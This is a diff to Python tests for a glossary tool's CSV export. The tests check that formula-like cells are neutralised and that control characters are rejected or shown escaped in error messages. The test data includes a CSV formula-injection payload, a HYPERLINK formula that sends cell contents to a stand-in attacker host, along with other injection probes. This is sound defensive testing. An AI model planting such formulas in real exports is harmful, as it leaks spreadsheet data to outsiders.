@@ -49,7 +49,8 @@ def _glossary(root: Path, **terms: str) -> Path:
 def test_csv_export_neutralises_every_formula_cell(tmp_path: Path) -> None:
     glossary, problems = load_glossary(_glossary(tmp_path / "g", hostile=HOSTILE_TERM,
                                                  quoted=FIVE_DAYS), tmp_path)
-    assert [p.format() for p in problems if p.severity == "error"] == []
+    # The loader refuses the carriage return and drops it; the '=' behind it is still caught.
+    assert [p.rule for p in problems if p.severity == "error"] == ["control-character"]
     rows = list(csv.DictReader(io.StringIO(glossary_csv(glossary), newline="")))
     assert rows == [
         {"id": "hostile", "name": '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")',
@@ -58,7 +59,7 @@ def test_csv_export_neutralises_every_formula_cell(tmp_path: Path) -> None:
          "owner": "'@sales-team", "status": "approved"},
         # '-' is neutralised even before words; a quote already there gets one more.
         {"id": "quoted", "name": "Quote first", "abbreviation": "", "aliases": "'-5 days",
-         "context": "''=already quoted", "definition": "'\r=1+1", "category": "c",
+         "context": "''=already quoted", "definition": "'=1+1", "category": "c",
          "owner": "ae", "status": "approved"},
     ]
 
@@ -208,7 +209,8 @@ def test_an_id_with_a_trailing_newline_is_no_id(project: Path, run: Run,
     before = _terms(project)
     code, out, _ = run("import", str(source), "--category", "buyers", "--owner", "ae")
     assert code == 1
-    assert "in.json:1:1: error: cannot make a valid id for 'Evil' (got 'evil\n'); add an " \
+    # The line break is shown escaped: problems never print raw control characters.
+    assert "in.json:1:1: error: cannot make a valid id for 'Evil' (got 'evil\\x0a'); add an " \
            "'id' column" in out
     assert _terms(project) == before
 
